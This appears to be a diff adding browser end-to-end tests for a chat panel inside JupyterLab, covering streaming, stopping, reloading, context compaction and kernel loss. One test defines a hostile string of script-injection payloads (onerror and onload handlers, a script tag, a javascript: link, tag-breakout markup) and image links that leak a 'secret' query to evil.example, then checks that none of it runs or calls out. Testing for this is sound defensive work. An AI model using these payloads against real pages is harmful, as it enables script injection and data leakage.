@@ -1,0 +1,210 @@
+"""The chat panel in a real JupyterLab: typing, streaming, stopping, coming back."""
+
+from collections.abc import Callable
+from pathlib import Path
+
+from labkit import Lab, Notebook
+from playwright.sync_api import Locator, Page, expect
+
+OpenNotebook = Callable[..., Notebook]
+Screenshot = Callable[[str], Path]
+
+SETUP = """
+import time
+from nbchat.agent import Agent
+from nbchat.compaction.engine import CompactionEngine
+from nbchat.errors import AuthenticationFailed
+from nbchat.testing import ScriptedProvider, calls, fails, says
+from nbchat.ui.chat_ui import ChatUI
+
+def look_up(ticket: int) -> str:
+    "Read a ticket."
+    return f"Ticket {ticket}: the printer is offline."
+"""
+
+ANSWER = """\
+Here is **what I found** in `ticket 42`:
+
+| field | value |
+|---|--:|
+| opened | 3 |
+
+```python
+def total(items):
+    return sum(items)  # all of them
+```
+
+Is that [enough](https://example.org)?"""
+
+HOSTILE = """\
+<img src=x onerror="window.nbchatRan=1"><script>window.nbchatRan=1</script>
+<svg onload="window.nbchatRan=1"></svg>
+![leak](https://evil.example/?q=secret) [x](javascript:window.nbchatRan=1)
+"></pre></details><img src=https://evil.example/y onerror="window.nbchatRan=1">"""
+
+STORY = "<summary>The printer of Ann is offline since Monday.</summary>"
+
+
+def chat_notebook(
+    open_notebook: OpenNotebook, script: str, options: str = ""
+) -> Notebook:
+    """A notebook whose first cell makes a panel on a scripted model."""
+    return open_notebook(
+        f"{SETUP}\nui = ChatUI(Agent(ScriptedProvider({script}), {options}))\nui",
+        "ui",
+        "time.sleep(4)",
+    )
+
+
+def panel_of(notebook: Notebook, index: int = 0) -> Locator:
+    """The panel a cell shows, once its agent is ready."""
+    panel = notebook.run(index).locator(".nbc")
+    expect(panel.locator(".nbc-model")).to_have_text("scripted:model")
+    return panel
+
+
+def say(panel: Locator, text: str) -> None:
+    """Type a message and press Enter."""
+    panel.get_by_role("textbox").fill(text)
+    panel.get_by_role("textbox").press("Enter")
+
+
+def stop_button(panel: Locator) -> Locator:
+    """The button that ends an answer."""
+    return panel.get_by_role("button", name="Stop")
+
+
+def test_an_answer_streams_in_and_becomes_markdown(
+    open_notebook: OpenNotebook, screenshot: Screenshot
+) -> None:
+    panel = panel_of(
+        chat_notebook(open_notebook, f"says({ANSWER!r}, delay_seconds=0.1)")
+    )
+    say(panel, "What is in ticket 42?")
+    expect(panel.locator(".nbc-user")).to_have_text("What is in ticket 42?")
+    expect(stop_button(panel)).to_be_visible()
+    expect(panel.locator(".nbc-live strong")).to_have_text("what I found")
+    answer = panel.locator(".nbc-log .nbc-assistant")
+    expect(answer.locator("td").first).to_have_text("opened")
+    expect(answer.locator(".nbc-code .k").first).to_have_text("def")
+    expect(answer.locator("a")).to_have_attribute("rel", "noopener noreferrer")
+    expect(stop_button(panel)).to_be_hidden()
+    screenshot("answer")
+
+
+def test_shift_enter_begins_a_line_and_runs_no_cell(
+    open_notebook: OpenNotebook, page: Page
+) -> None:
+    panel = panel_of(chat_notebook(open_notebook, "says('one')"))
+    box = panel.get_by_role("textbox")
+    box.press_sequentially("first")
+    box.press("Shift+Enter")
+    box.press_sequentially("a b dd")
+    expect(box).to_have_value("first\na b dd")
+    panel.locator(".nbc-scroller").press("d")
+    panel.locator(".nbc-scroller").press("d")
+    front = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden)")
+    expect(front.locator(".jp-Cell")).to_have_count(3)
+    expect(front.locator(".jp-InputPrompt").first).to_have_text("[1]:")
+
+
+def test_stop_keeps_the_partial_answer_even_while_a_cell_runs(
+    open_notebook: OpenNotebook,
+) -> None:
+    notebook = chat_notebook(
+        open_notebook, "says('word ' * 500, delay_seconds=0.05), says('Still here.')"
+    )
+    panel = panel_of(notebook)
+    say(panel, "Tell me a long story.")
+    expect(panel.locator(".nbc-live")).to_contain_text("word word")
+    notebook.start(2)
+    stop_button(panel).click()
+    answer = panel.locator(".nbc-log .nbc-assistant")
+    expect(answer).to_contain_text("stopped here", timeout=2_500)
+    expect(answer).to_contain_text("word word")
+    notebook.join()
+    say(panel, "And now?")
+    expect(answer.last).to_have_text("Still here.")
+
+
+def test_a_second_view_and_a_reloaded_page_show_the_transcript(
+    open_notebook: OpenNotebook,
+) -> None:
+    script = "says('First answer.'), says('Second ' * 40, delay_seconds=0.1)"
+    notebook = chat_notebook(open_notebook, script)
+    panel = panel_of(notebook)
+    say(panel, "One?")
+    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("First answer.")
+    say(panel, "Two?")
+    expect(panel.locator(".nbc-live")).to_contain_text("Second Second")
+    second = panel_of(notebook, 1)
+    expect(second.locator(".nbc-user")).to_have_text(["One?", "Two?"])
+    expect(second.locator(".nbc-live")).to_contain_text("Second Second")
+    notebook.save()
+    notebook.load_page()
+    notebook.open()
+    again = notebook.outputs(0).locator(".nbc")
+    expect(again.locator(".nbc-user")).to_have_text(["One?", "Two?"])
+    expect(again.locator(".nbc-log .nbc-assistant").last).to_contain_text("Second")
+    expect(stop_button(again)).to_be_hidden()
+
+
+def test_a_compaction_shows_its_banner_and_folds_the_meter(
+    open_notebook: OpenNotebook, screenshot: Screenshot
+) -> None:
+    script = f"calls('look_up', ticket=42), says('Offline. ' * 400, tokens=1_900), says({STORY!r})"
+    engine = "CompactionEngine(context_token_threshold=2_000)"
+    panel = panel_of(
+        chat_notebook(open_notebook, script, f"tools=[look_up], engine={engine}")
+    )
+    say(panel, "Tell me about my printer. " * 60)
+    card = panel.locator(".nbc-tool")
+    expect(card).to_have_attribute("data-state", "done")
+    card.locator("summary").click()
+    expect(card).to_contain_text("the printer is offline")
+    banner = panel.locator(".nbc-banner")
+    expect(banner).to_contain_text("Compaction occurred")
+    expect(banner).to_contain_text("4 entries folded")
+    banner.locator("summary").click()
+    expect(banner).to_contain_text("The printer of Ann is offline since Monday.")
+    expect(panel.locator(".nbc-meter-text")).to_have_text("0 / 2,000 tokens")
+    screenshot("banner")
+
+
+def test_when_the_kernel_is_gone_the_transcript_stays_readable(
+    open_notebook: OpenNotebook, screenshot: Screenshot
+) -> None:
+    notebook = chat_notebook(open_notebook, "says('The answer.')")
+    panel = panel_of(notebook)
+    say(panel, "A question?")
+    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("The answer.")
+    notebook.restart_kernel()
+    expect(panel.get_by_role("alert")).to_contain_text("The kernel is gone")
+    expect(panel.locator(".nbc-log .nbc-assistant")).to_have_text("The answer.")
+    expect(panel.get_by_role("textbox")).to_be_disabled()
+    screenshot("gone")
+
+
+def test_hostile_text_runs_nothing_and_sends_nothing(
+    open_notebook: OpenNotebook, page: Page, lab: Lab
+) -> None:
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    script = (
+        f"calls('look_up', ticket=42, **{{{HOSTILE!r}: {HOSTILE!r}}}), "
+        f"calls({HOSTILE!r}, a=1), says({HOSTILE!r} * 2, delay_seconds=0.02), "
+        f"fails(AuthenticationFailed({HOSTILE!r}))"
+    )
+    panel = panel_of(chat_notebook(open_notebook, script, "tools=[look_up]"))
+    say(panel, HOSTILE)
+    expect(panel.locator(".nbc-log .nbc-assistant")).to_contain_text("evil.example")
+    for card in panel.locator(".nbc-tool summary").all():
+        card.click()
+    say(panel, HOSTILE)
+    expect(panel.locator(".nbc-error")).to_contain_text("onerror")
+    assert page.evaluate("() => window.nbchatRan") is None
+    assert panel.locator("img, script, svg, iframe").count() == 0
+    outside = [
+        url for url in requests if not url.startswith((lab.url, "blob:", "data:"))
+    ]
+    assert outside == []
